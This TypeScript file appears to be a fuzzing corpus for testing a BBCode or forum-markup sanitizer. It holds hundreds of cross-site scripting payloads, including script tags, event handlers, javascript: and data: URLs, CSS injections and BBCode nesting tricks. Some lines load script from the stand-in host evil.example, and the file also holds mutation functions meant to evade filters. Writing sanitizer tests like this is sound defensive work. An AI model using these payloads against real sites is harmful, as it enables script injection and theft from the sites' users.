const ELEMENTS =
  'img svg body iframe input video audio details marquee object embed link style math form button base meta table td div a template noscript textarea title xmp plaintext select frameset portal image bgsound layer applet keygen'.split(
    ' ',
  )
const EVENTS = ['onerror', 'onload', 'onclick', 'onfocus autofocus tabindex=1', 'ontoggle', 'onbegin']
const CODE = 'alert(1)'

const scripts = [
  `<script>${CODE}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `</script><script>${CODE}</script>`,
  `<script/x>${CODE}</script/x>`,
  `<script\n>${CODE}</script\n>`,
  `<<script>${CODE}//<</script>`,
  `<script>${CODE}`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `--><script>${CODE}</script>`,
  `]]><script>${CODE}</script>`,
  `*/${CODE}/*`,
  `<!--<img src="--><img src=x onerror=${CODE}//">`,
  `<![CDATA[<script>${CODE}</script>]]>`,
  `<?xml-stylesheet href="javascript:${CODE}"?>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `<math><mi//xlink:href="data:x,<script>${CODE}</script>">`,
  `<svg><script>${CODE}&#x2f;/</script></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CODE}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CODE}>`,
]

const addresses = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  `java\tscript:${CODE}`,
  `java\nscript:${CODE}`,
  `\u0001javascript:${CODE}`,
  ` javascript:${CODE}`,
  `javascript&colon;${CODE}`,
  `&#106;avascript:${CODE}`,
  `&#x6A;avascript:${CODE}`,
  `javascript%3A${CODE}`,
  `javascript://e.com/%0a${CODE}`,
  `http:javascript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${CODE}>`,
  `vbscript:msgbox(1)`,
  `//evil.example/x" onerror="${CODE}`,
  `http://e.com/" onmouseover="${CODE}`,
  `http://e.com/' onmouseover='${CODE}`,
  `http://e.com/\` onmouseover=\`${CODE}`,
  `http://e.com/><script>${CODE}</script>`,
  `http://e.com/ onmouseover=${CODE}`,
  `http://e.com/[b]" onerror="${CODE}[/b]`,
  `http://e.com\\@evil.example`,
  `http://e.com/\u2028onerror=${CODE}`,
  `www.e.com/"onload="${CODE}`,
  `www.e.com/[url]javascript:${CODE}[/url]`,
  `mailto:a@b.c" onclick="${CODE}`,
  `x@y.z?[email=a@b.c? onmouseover=${CODE}//]`,
  `ed2k://|file|"onclick="${CODE}|1|2|/`,
]

const breakouts = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '"/>',
  '\\"',
  '&quot;',
  '&#34;',
  '%22',
  '\u201d',
  ']"',
  '"]',
  ' ',
  '/',
].flatMap(quote => [`${quote} onmouseover=${quote}${CODE}`, `${quote}><img src=x onerror=${CODE}>`])

const styles = [
  `red;background:url(javascript:${CODE})`,
  `expression(${CODE})`,
  `red;-moz-binding:url(//evil.example/x#y)`,
  `rgb(0,0,0);x:expression(${CODE})`,
  `#fff;behavior:url(x.htc)`,
  `Arial;}</style><script>${CODE}</script>`,
  `Arial',x:'url(javascript:${CODE})`,
  `12px;position:fixed;inset:0`,
  `var(--x,url(//evil.example))`,
  `\\72 ed;x:y`,
  `center" style="position:fixed`,
  `1,1,"onclick=${CODE}`,
  `98%;x:y`,
  `10,10" onerror="${CODE}`,
  `30,2,left;x:y`,
]

const markup = [
  `[img]http://e.com/x[url=http://f.com onerror=${CODE}//]y[/url][/img]`,
  `[url=http://e.com][img]http://e.com/a.jpg[/url]" onerror=${CODE} [/img]`,
  `[email][url=javascript:${CODE}]x[/url][/email]`,
  `[url]http://e.com[img]x" onerror=${CODE}[/img][/url]`,
  `[color=[color=red]]x" onclick=${CODE}[/color][/color]`,
  `[font=a[font=b]]" onclick=${CODE}[/font]`,
  `[code][/code]<img src=x onerror=${CODE}>[code]`,
  `[code]</code><script>${CODE}</script>`,
  `[quote=" onclick="${CODE}]x[/quote]`,
  `[list=" onclick="${CODE}][*]x[/list]`,
  `[attach]1" onerror="${CODE}[/attach]`,
  `[attach]7[/attach]" onerror="${CODE}`,
  `:)" onerror="${CODE}`,
  `{:2_25:}<img src=x onerror=${CODE}>`,
  `[table][tr][td="><script>${CODE}</script>]x[/td][/tr][/table]`,
  `[b onmouseover=${CODE}]x[/b]`,
  `[b][url=http://e.com][i]x[/b]http://f.com/"onload=${CODE}[/url][/i]`,
  `[constructor]x[/constructor][__proto__=x]y[/__proto__]`,
]

/** A few hundred ways to try to get script into a page. */
export const payloads: readonly string[] = [
  ...scripts,
  ...ELEMENTS.flatMap(element => EVENTS.map(event => `<${element} src=x href=x ${event}=${CODE}>`)),
  ...ELEMENTS.map(element => `"></${element}><${element}/style="x:y"/onpointerenter='${CODE}'//`),
  ...addresses,
  ...breakouts,
  ...styles,
  ...markup,
]

const middle = (text: string) => Math.floor(text.length / 2)
const splice = (text: string, piece: string) => text.slice(0, middle(text)) + piece + text.slice(middle(text))

/** What filters are commonly got around with. */
export const mutations: readonly ((payload: string) => string)[] = [
  payload => payload,
  payload => payload.toUpperCase(),
  payload => [...payload].map((character, index) => (index % 2 ? character.toUpperCase() : character)).join(''),
  payload => payload.replaceAll('<', '&lt;').replaceAll('"', '&quot;'),
  payload => [...payload].map(character => `&#x${character.codePointAt(0)!.toString(16)};`).join(''),
  payload => encodeURIComponent(payload),
  payload => splice(payload, '\0'),
  payload => splice(payload, '[b]'),
  payload => splice(payload, '\u200b\n'),
  payload => payload + payload,
  payload => payload.slice(0, -1),
  payload => payload.replaceAll('<', '\ufe64').replaceAll("'", '\u2019'),
]

/** Every place of the markup a text can be put in. */
export const wrappings: readonly ((payload: string) => string)[] = [
  p => p,
  p => `[url=${p}]x[/url]`,
  p => `[url="${p}"][b]${p}[/b][/url]`,
  p => `[url]${p}[/url]`,
  p => `[url=http://e.com/${p}]${p}[/url]`,
  p => `http://e.com/${p} www.e.com${p}`,
  p => `[img]${p}[/img]`,
  p => `[img=${p}]http://e.com/${p}[/img]`,
  p => `[email=${p}]x[/email][email]${p}[/email]`,
  p => `[color=${p}][backcolor=${p}]x[/backcolor][/color]`,
  p => `[COLOR=RED][B]${p}[/COLOR]${p}[/B]`,
  p => `[font=${p}][size=${p}]x[/size][/font]`,
  p => `[align=${p}]x[/align][p=${p}]x[/p]`,
  p => `[quote]${p}[/quote][quote=${p}]x[/quote]`,
  p => `[code]${p}[/code]${p}`,
  p => `[list=${p}][*]${p}[/list]`,
  p => `[list][*]${p}[*][quote]${p}[/list][/quote]`,
  p => `[table=${p}][tr=${p}][td=${p}]${p}[/td][/tr][/table]`,
  p => `[table]${p}|[b]${p}\n${p}[/b][/table]`,
  p => `[url=http://e.com][img]${p}[/url][/img]`,
  p => `[img][url=${p}]http://e.com/[/img]${p}[/url]`,
  p => `[attach]${p}[/attach][attach]7[/attach]`,
  p => `[b][url=${p}`,
  p => `&#91;b&#93;${p}&#91;/b&#93;[/${p}]`,
]
